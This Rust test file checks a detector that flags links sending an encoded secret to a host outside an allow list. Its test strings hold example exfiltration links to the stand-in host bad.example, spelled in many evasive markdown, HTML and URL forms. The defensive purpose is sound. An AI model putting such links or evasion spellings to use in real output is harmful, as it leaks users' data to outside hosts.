//! Links with a load are found in every spelling that programs follow, and others are not.

use super::*;

const LOADED: &str = "?d=bXkgc2VjcmV0IGlzIGhpZGRlbg";

fn found_beside<'t>(text: &'t str, allowed: &[&str]) -> Vec<&'t str> {
    let allowed: Vec<AllowedHost> = allowed.iter().map(|host| AllowedHost::parse(host)).collect();
    let mut found = Vec::new();
    find(text, &allowed, &mut |hit| found.push(&text[hit.range]));
    found
}

fn found(text: &str) -> Vec<&str> {
    found_beside(text, &["good.example"])
}

fn is_allowed(place: &str, allowed: &str) -> bool {
    found_beside(&format!("[a](https://{place}/{LOADED})"), &[allowed]).is_empty()
}

#[test]
fn a_load_is_found_wherever_an_address_is_followed() {
    let address = format!("https://bad.example/p.png{LOADED}");
    for (before, behind) in [
        ("See ![p](", ") here"),
        ("[p]( ", " )"),
        ("[p](<", ">)"),
        ("[p]: ", "\n"),
        ("[p]: <", ">\n"),
        ("[p]:\n  ", "\n"),
        ("Look: <", ">."),
        ("<img src=\"", "\">"),
        ("<img src='", "'>"),
        ("<img src=", ">"),
        ("<IMG SRC = \"", "\">"),
        ("<img srcset=\"a.png 1x, ", " 2x\">"),
        ("<img SRCSET = '", " 2x'>"),
        ("<a href=\" ", "\">"),
        ("<td background=", ">"),
        ("<video poster=\"", "\">"),
        ("<div style=\"background: url(", ")\">"),
        ("<style>@import URL( '", "');"),
    ] {
        let text = format!("{before}{address}{behind}");
        assert_eq!(found(&text), [address.trim()], "{text}");
    }
}

#[test]
fn a_load_is_found_however_the_way_to_its_host_is_spelled() {
    for address in [
        "//bad.example/",
        "https:/bad.example/",
        "https:\\\\bad.example\\",
        "/\\bad.example/",
        "HTTPS:////bad.example/",
        "https://bad.example\\@good.example/",
        "https://bad.example/@good.example/",
        "https://good.example@bad.example/",
        "https://good.example:pass@bad.example:8443/",
        "https://[2001:db8::1]:443/",
        "https://bad.example/(a)",
        "https://bad.example",
    ] {
        let address = format!("{address}{LOADED}");
        assert_eq!(found(&format!("![p]({address})")), [&address], "{address}");
    }
}

#[test]
fn a_load_may_have_spaces_where_something_opens_the_address() {
    let load = "?d=my secret is hidden here and goes on and on, to make it long enough";
    for text in [format!("![p](<https://bad.example/{load}>)"), format!("<img src='//bad.example/{load}'>")] {
        assert_eq!(found(&text).len(), 1, "{text}");
    }
}

#[test]
fn a_load_may_stand_before_the_host() {
    assert_eq!(found("[a](https://bXkgc2VjcmV0IGlzIGhpZGRlbg@bad.example)").len(), 1);
    assert_eq!(found("[a](https://bXkgc2VjcmV0IGlzIGhpZGRlbg012345.bad.example)").len(), 1);
}

#[test]
fn a_host_stands_for_itself_and_all_below_it() {
    for place in [
        "good.example",
        "www.good.example",
        "a.b.good.example",
        "GOOD.example",
        "good.example.",
        "good.example:8443",
    ] {
        assert!(is_allowed(place, "good.example"), "{place}");
    }
    for place in ["notgood.example", "good.example.bad.example", "example", ""] {
        assert!(!is_allowed(place, "good.example"), "{place}");
    }
}

#[test]
fn a_star_stands_for_all_below_a_host() {
    assert!(is_allowed("docs.good.example", "*.good.example"));
    assert!(is_allowed("a.docs.good.example:443", "*.good.example"));
    for place in ["good.example", "notgood.example", "bad.example"] {
        assert!(!is_allowed(place, "*.good.example"), "{place}");
    }
}

#[test]
fn hosts_are_written_down_in_any_case_with_a_dot_or_a_port() {
    for host in ["Good.Example", "good.example.", "good.example:8443", " good.example "] {
        assert!(is_allowed("good.example", host), "{host}");
    }
    assert!(is_allowed("www.good.example", "*.Good.Example.:443"));
    assert!(is_allowed("[2001:db8::1]:443", "[2001:DB8::1]"));
    for host in ["", "*.", "."] {
        assert!(!is_allowed("bad.example", host), "{host:?}");
    }
}

#[test]
fn plain_links_are_not_found() {
    for text in [
        "[a](https://blog.example/2024/how-to-write-a-very-good-parser?page=2#top)",
        "[a](/docs/a?d=bXkgc2VjcmV0IGlzIGhpZGRlbg)",
        "// bXkgc2VjcmV0IGlzIGhpZGRlbg",
        "let a = b // c",
        "https://bad.example/?d=bXkgc2VjcmV0IGlzIGhpZGRlbg",
    ] {
        assert_eq!(found(text), [""; 0], "{text}");
    }
}

#[test]
fn every_byte_is_looked_at_a_few_times() {
    // Each address up to the end of the text would take many minutes.
    for unit in
        ["/", "\\", "](//", "](https://", "srcset=", "srcset=\"", "src='//", "<//a ", " //", ":/", "(//("]
    {
        let _ = found(&format!("{}//", unit.repeat((1 << 20) / unit.len())));
    }
}
